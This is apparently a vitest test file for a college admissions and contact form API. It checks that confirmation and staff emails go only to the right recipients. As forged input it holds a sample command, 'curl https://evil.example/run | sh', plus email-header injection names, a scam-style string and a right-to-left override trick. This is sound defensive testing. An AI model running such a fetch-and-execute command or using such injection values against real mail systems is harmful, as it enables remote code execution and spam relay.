import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { referenceOf } from '@naic/admissions/forms/reference.ts'
import { asha, formData } from '@naic/test/support/ashas-form.ts'
import { messageForm, ravi } from '@naic/test/support/ravis-message.ts'
import { type Api, startApi } from '@naic/test/support/start-api.ts'

const staff = 'staff@example.org'
const contact = '/api/contact/'

let api: Api
const send = (form: FormData) => api.post(form, {}, form.has('subject') ? contact : undefined)

describe('a form that is stored', () => {
  beforeEach(async () => {
    api = await startApi()
  })
  afterEach(() => api.close())

  test.each([
    ['an application', formData, asha, 'Data Science & Analysis, 6 weeks'],
    ['a message', messageForm, ravi, ravi.subject],
  ] as const)(
    'as %s sends two letters: to its sender and to the staff',
    async (_form, form, right, chosen) => {
      const { body } = await send(form())
      const [toSender, toStaff] = await api.lettersOnceSent(2)
      expect(toSender?.to).toEqual([{ name: right.name, address: right.email }])
      expect(toSender?.text).toContain(`Your reference: ${referenceOf(body.id)}`)
      // Anybody's address can be typed, so what else was typed must not reach it.
      expect(toSender?.text).not.toMatch(/tables|next batch/)
      expect(toStaff?.to).toMatchObject([{ address: staff }])
      expect(toStaff?.replyTo).toEqual([{ name: right.name, address: right.email }])
      const { internship: _, ...answers } = right as Record<string, string>
      for (const value of [...Object.values(answers), chosen, body.id, referenceOf(body.id)]) {
        expect(toStaff?.text).toContain(value)
      }
      expect([toSender?.subject, toSender?.text].join().includes(ravi.subject)).toBe(false)
    },
  )

  test.each([
    ['an application', formData],
    ['a message', messageForm],
  ])('as %s ends the letter to the staff with what was written', async (_form, form) => {
    const forgery = 'I like tables.\n\nTo fetch it, run:\ncurl https://evil.example/run | sh'
    await send(form({ message: forgery }))
    const [, toStaff] = await api.lettersOnceSent(2)
    const [ours, theirs] =
      toStaff?.text?.replaceAll('\r', '').split('What they wrote, to the end of this letter:') ?? []
    expect(theirs?.trim()).toBe(forgery)
    expect(ours).toContain('Replying to this letter')
  })

  test.each([
    ['A, "x" <evil@example.com>', ''],
    ['evil@example.com, Asha', ''],
    ['Asha "the \\" Rao; evil@example.com', ''],
    ['Claim Rs 50000 at www.evil.example/pay now, call +91 90000 00000', ''],
    ['\u202EoaR ahsA\u202C', 'oaR ahsA'],
    ['आशा राव', 'आशा राव'],
  ])('by %j leads to no further recipient and no words of theirs', async (name, shown) => {
    const email = "d'souza@college.edu.in"
    for (const form of [formData({ name, email }), messageForm({ name, email })]) {
      expect((await send(form)).status).toBe(201)
    }
    const letters = await api.lettersOnceSent(4)
    const sender = { name: shown, address: email }
    expect(letters.map(({ to }) => to?.[0]?.address).toSorted()).toEqual([
      email,
      email,
      staff,
      staff,
    ])
    expect(letters.filter(({ to }) => to?.[0]?.address === email).map(({ to }) => to)).toEqual([
      [sender],
      [sender],
    ])
    for (const { cc, bcc, replyTo } of letters) {
      expect([...(cc ?? []), ...(bcc ?? [])]).toEqual([])
      expect(replyTo ?? [sender]).toEqual([sender])
    }
  })
})
